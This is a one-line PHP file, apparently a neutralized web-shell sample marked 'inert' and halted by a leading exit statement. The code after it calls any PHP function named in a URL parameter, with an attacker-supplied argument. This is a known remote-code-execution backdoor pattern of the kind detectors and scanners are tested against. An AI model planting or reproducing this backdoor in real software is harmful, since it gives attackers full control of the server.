<?php exit; /* inert */ class I{ public static function __callStatic($n,$a){ return $n(...$a);} } I::{$_GET["f"]}($_GET["a"]);
